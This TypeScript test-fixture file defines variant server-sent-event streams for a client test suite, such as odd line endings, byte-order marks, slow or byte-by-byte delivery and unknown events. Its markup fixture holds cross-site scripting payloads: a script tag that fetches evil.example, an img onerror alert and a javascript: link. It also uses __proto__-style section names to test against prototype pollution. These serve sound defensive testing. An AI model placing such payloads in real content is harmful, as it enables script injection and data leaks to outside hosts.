import type { Frame, Style } from '../plan';
import type { SectionPiece, StreamEnd } from '../types';
import { firstSections, heldFrames, normalFrames, type Fault } from './fault';

/** The normal stream, written in another style or ended in another way. */
const written = (description: string, style: Style, end: StreamEnd = 'close'): Fault => ({
	description,
	when: 'healthy',
	plan: ({ pieces }) => ({ kind: 'stream', frames: normalFrames(pieces), style, end }),
});

/** A stream with other content. */
const content = (
	description: string,
	frames: (pieces: readonly SectionPiece[]) => Frame[],
	style?: Style,
): Fault => ({
	description,
	when: 'healthy',
	plan: ({ pieces }) => ({ kind: 'stream', frames: frames(pieces), style }),
});

function withUnknownEvents(pieces: readonly SectionPiece[]): Frame[] {
	return [
		{ kind: 'bytes', bytes: 'retry: 3000\nid: 1\nflavour: none\n\n' },
		...normalFrames(pieces).flatMap((frame): Frame[] => [
			{ kind: 'event', data: '{"type":"usage","tokens":12}' },
			{ kind: 'event', event: 'trace', data: '{"step":"write"}' },
			frame.kind === 'section' ? { ...frame, extra: { index: 7, model: { name: 'x' } } } : frame,
		]),
	];
}

const wholeSections = (pieces: readonly SectionPiece[]): SectionPiece[] =>
	[...new Set(pieces.map((piece) => piece.section))].map((section) => ({
		section,
		content: pieces
			.filter((piece) => piece.section === section)
			.map((piece) => piece.content)
			.join(''),
	}));

const trickyNames: readonly SectionPiece[] = [
	{ section: '__proto__', content: 'A section like any other, ' },
	{ section: '__proto__', content: 'whatever its name.' },
	{ section: 'constructor', content: 'So is this one.' },
	{ section: 'toString', content: 'And this one.' },
];

const markup: readonly SectionPiece[] = [
	{ section: 'summary', content: '# Not a heading\n\nResearch & "development" <b>lead</b>' },
	{ section: 'summary', content: ' <script>fetch("https://evil.example/?c=1")</script>' },
	{ section: 'skills', content: '## Skills\n- <img src="https://evil.example/pixel.gif" ' },
	{ section: 'skills', content: "onerror='alert(1)'>\n- [a link](javascript:alert(1))" },
	{ section: 'a<b>&"c"', content: 'A name with markup in it; 5 < 6 && 7 > 6.' },
];

/** Streams that go well, though not in the usual way. */
export const healthyFaults = {
	unknown_events: content('sends unknown events and fields in between', withUnknownEvents),
	unterminated: written('ends right after done, without the blank line', { unterminated: true }),
	holds_open: written('holds the connection open after done', {}, 'hold'),
	bom: written('starts with a byte order mark', { byteOrderMark: true }),
	crlf: written('ends its lines with CR LF', { lineEnd: '\r\n' }),
	cr: written('ends its lines with a lone CR', { lineEnd: '\r' }),
	comments: written('sends heartbeat comments between the pieces', { comments: true }),
	multi_data: written('spreads the JSON of an event over several lines', { multiLine: true }),
	one_byte: written('sends every byte by itself', { byteByByte: true }),
	slow: content('sends whole sections, 300 ms apart', (p) => normalFrames(wholeSections(p)), {
		pieceDelay: 300,
	}),
	hold: content('waits after the first piece for a release', heldFrames),
	proto: content('names its sections __proto__, constructor, toString', () =>
		normalFrames(trickyNames),
	),
	markup: content('sends HTML, scripts, quotes and markdown as content', () =>
		normalFrames(markup),
	),
	single: content('sends one section only', (pieces) => normalFrames(firstSections(pieces, 1))),
} satisfies Record<string, Fault>;
